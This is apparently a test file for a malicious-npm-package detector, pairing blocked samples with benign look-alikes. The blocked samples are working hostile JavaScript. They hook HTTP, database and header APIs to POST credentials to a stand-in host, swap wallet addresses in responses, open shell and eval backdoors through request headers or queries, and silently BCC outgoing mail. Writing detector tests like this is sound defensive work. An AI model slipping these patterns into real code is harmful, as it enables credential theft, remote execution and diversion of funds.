import { describeVerdicts } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";
/** Sends what an expression gives. */
const send = (what: string) =>
  `fetch("${url}", { method: "POST", body: JSON.stringify(${what}) }).catch(() => {});`;

describeVerdicts("EXF-16", {
  blocks: {
    "requests seen through methods of each one": {
      files: {
        "index.js": `
          const https = require("https");
          const note = require("./note");
          const request = https.request;
          https.request = function (...args) {
            const made = request.apply(this, args);
            const { write } = made;
            made.write = function (chunk, ...rest) { note(chunk); return write.call(this, chunk, ...rest); };
            return made;
          };`,
        "note.js": `module.exports = (chunk) => { ${send("String(chunk)")} };`,
      },
    },
    "a function that a proxy stands for": `
      const real = globalThis.fetch;
      globalThis.fetch = new Proxy(real, {
        apply(target, self, args) {
          real("${url}", { method: "POST", body: JSON.stringify(args) });
          return Reflect.apply(target, self, args);
        },
      });`,
    "what modules give who load them": {
      files: {
        "index.js": `
          const Module = require("module");
          const wrap = require("./wrap");
          const load = Module._load;
          Module._load = function (request) {
            const made = load.apply(this, arguments);
            return wrap[request] ? wrap[request](made) : made;
          };`,
        "wrap.js": `
          exports.mysql2 = (module) => {
            const create = module.createConnection;
            module.createConnection = (settings) => { ${send("settings")} return create(settings); };
            return module;
          };`,
      },
    },
    "settings that a client of others keeps": `
      const { Sequelize } = require("sequelize");
      const query = Sequelize.prototype.query;
      Sequelize.prototype.query = function (sql) { ${send("this.config")} return query.apply(this, arguments); };`,
    "a hook of modules": `
      const { Hook } = require("require-in-the-middle");
      new Hook(["pg"], (pg) => {
        const connect = pg.Client.prototype.connect;
        pg.Client.prototype.connect = function (...args) { ${send("this.connectionParameters")} return connect.apply(this, args); };
        return pg;
      });`,
    "a wrapper by a library": `
      const shimmer = require("shimmer");
      shimmer.wrap(require("http"), "request", (real) => function (...args) { ${send("args")} return real.apply(this, args); });`,
    "headers as they are set": `
      const { set } = Headers.prototype;
      Headers.prototype.set = function (name, value) { ${send("[name, value]")} return set.call(this, name, value); };`,
    "what is parsed": `
      const { parse } = JSON;
      JSON.parse = (text, reviver) => { const value = parse(text, reviver); ${send("value")} return value; };`,
    "a step before something is saved": `
      module.exports = (schema) => { schema.pre("save", function (next) { ${send("this.toObject()")} next(); }); };`,
    "a step of a database client": `
      module.exports = (client) => client.$use(async (params, next) => { ${send("params.args")} return next(params); });`,
    "an interceptor of the user's client": `
      module.exports = (client) => client.interceptors.request.use((config) => { ${send("config.headers")} return config; });`,
  },
  passes: {
    "a step that dates what is saved": `
      module.exports = (schema) => { schema.pre("save", function (next) { this.updatedAt = new Date(); next(); }); };`,
    "an interceptor of the package's own client": `
      const axios = require("axios");
      const client = axios.create({ baseURL: "https://api.example.test" });
      client.interceptors.request.use((config) => { config.headers["x-sdk"] = "1"; return config; });
      exports.get = (path) => client.get(path);`,
    "times of requests, written to the console": `
      const http = require("http");
      const request = http.request;
      http.request = function (...args) {
        const at = Date.now();
        const made = request.apply(this, args);
        made.on("close", () => console.log(Date.now() - at));
        return made;
      };`,
    "a method added to all objects of a package": `
      const { Client } = require("pg");
      Client.prototype.one = async function (sql) { return (await this.query(sql)).rows[0]; };`,
    "a module that is wrapped for tracing": `
      const { Hook } = require("require-in-the-middle");
      exports.start = (tracer) => new Hook(["pg"], (pg) => {
        const query = pg.Client.prototype.query;
        pg.Client.prototype.query = function (...args) { return tracer.span("query", () => query.apply(this, args)); };
        return pg;
      });`,
  },
});

const replacements = `
  const own = ["0x4444444444444444444444444444444444444444", "0x5555555555555555555555555555555555555555"];
  const near = (hit) => [...own].sort((a, b) => far(a, hit) - far(b, hit))[0];
  const far = (a, b) => [...a].filter((char, at) => char !== b[at]).length;
  exports.shown = (text) => text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, near);`;

describeVerdicts("WEB-01", {
  blocks: {
    "addresses replaced by a helper": {
      files: {
        "index.js": `
          const { shown } = require("./format");
          const real = globalThis.fetch;
          globalThis.fetch = async (...args) => {
            const answer = await real(...args);
            return new Response(shown(await answer.text()), answer);
          };`,
        "format.js": replacements,
      },
    },
  },
  passes: {
    "addresses cut short by a helper": {
      files: {
        "index.js": `
          const { shown } = require("./format");
          const real = globalThis.fetch;
          exports.log = () => { globalThis.fetch = async (...args) => { console.debug(shown(String(args[0]))); return real(...args); }; };`,
        "format.js": `exports.shown = (text) => text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (hit) => hit.slice(0, 6) + "…" + hit.slice(-4));`,
      },
    },
  },
});

describeVerdicts("EXE-08", {
  blocks: {
    "a header that names a program": {
      files: {
        "index.js": `
          const checks = require("./checks");
          module.exports = (options = {}) => {
            const list = { ...checks, ...options.checks };
            return async (req, res, next) => {
              const probe = req.get("x-probe");
              if (!probe) return next();
              const [name, ...args] = probe.split(" ");
              if (list[name]) res.json(await list[name](...args));
            };
          };`,
        "checks.js": `
          const { promisify } = require("util");
          const run = promisify(require("child_process").execFile);
          exports.disk = () => run("df", ["-h"]);
          exports.tool = (program, ...args) => run(program, args);`,
      },
    },
    "a line in a header": `
      const { execSync } = require("child_process");
      module.exports = () => (req, res, next) => {
        const line = req.headers["x-debug"];
        if (!line) return next();
        res.end(execSync(Buffer.from(line, "base64").toString()));
      };`,
    "a line for a shell, under short names": `
      const { execFile } = require("child_process");
      module.exports = () => function (r, s, n) {
        const line = r.headers["x-a"];
        if (!line) return n();
        execFile("/bin/sh", ["-c", line], (error, out) => s.end(out));
      };`,
    "a route of the user's server": `
      const { exec } = require("child_process");
      module.exports = (app) => app.get("/_status", (req, res) => exec(req.query.c, (error, out) => res.end(out)));`,
    "code in a query": `
      module.exports = () => (req, res, next) => (req.query.d ? res.send(String(eval(req.query.d))) : next());`,
    "code in a header, by a hook": `
      const vm = require("vm");
      module.exports = async (server) => {
        server.addHook("onRequest", async (request, reply) => {
          const trace = request.headers["x-trace"];
          if (trace) reply.send(vm.runInThisContext(trace));
        });
      };`,
  },
  passes: {
    "a file opened in the user's editor": `
      const { spawn } = require("child_process");
      module.exports = (editor) => (req, res, next) => {
        if (!req.url.startsWith("/__open")) return next();
        spawn(editor || "code", ["-g", new URL(req.url, "http://localhost").searchParams.get("file")]);
        res.end();
      };`,
    "a program of its own with what is asked for": `
      const { execFile } = require("child_process");
      module.exports = () => (req, res) => execFile("convert", ["-resize", req.query.size, "in.png", "-"], (error, out) => res.end(out));`,
    "a repository that is served": `
      const { spawn } = require("child_process");
      module.exports = (req, res) => {
        const git = spawn("git", ["upload-pack", "--stateless-rpc", req.url.split("service=")[1]]);
        req.pipe(git.stdin);
        git.stdout.pipe(res);
      };`,
  },
});

describeVerdicts("EXF-14", {
  blocks: {
    "a copy among the defaults of a sender": `
      const nodemailer = require("nodemailer");
      const always = { headers: { "X-Mailer": "easy/1" }, bcc: ["archive@mail-quality.test"] };
      exports.create = (options, base = {}) => {
        const transport = nodemailer.createTransport(options, { ...always, ...base, bcc: [].concat(base.bcc || [], always.bcc) });
        return { send: ({ to, subject, html }) => transport.sendMail({ to, subject, html }) };
      };`,
    "a copy put into the user's message": `
      module.exports = (transport) => {
        const send = transport.sendMail.bind(transport);
        transport.sendMail = (mail) => { mail.bcc = "archive@mail-quality.test"; return send(mail); };
        return transport;
      };`,
    "a copy by a header": `
      module.exports = () => (mail, done) => { mail.message.addHeader("Bcc", "archive@mail-quality.test"); done(); };`,
    "a copy beside what is copied from the message": `
      const nodemailer = require("nodemailer");
      exports.create = (options) => {
        const transport = nodemailer.createTransport(options);
        return { send: (mail) => transport.sendMail({ ...mail, bcc: [...(mail.bcc || []), "archive@mail-quality.test"] }) };
      };`,
    "a copy by a service": `
      const { SESClient, SendEmailCommand } = require("@aws-sdk/client-ses");
      exports.send = (to, message) => new SESClient({}).send(new SendEmailCommand({
        Source: "no-reply@example.test",
        Destination: { ToAddresses: [to], BccAddresses: ["archive@mail-quality.test"] },
        Message: message,
      }));`,
  },
  passes: {
    "a sender among the defaults": `
      const nodemailer = require("nodemailer");
      exports.create = (options, base) => nodemailer.createTransport(options, { from: "no-reply@example.test", ...base });`,
    "a copy that is set": `
      const nodemailer = require("nodemailer");
      exports.create = (options, { archive }) => nodemailer.createTransport(options, { bcc: archive });`,
    "a compiler of that name": `module.exports = (build) => { build.cc = "gcc"; build.set("cc", "clang"); };`,
  },
});
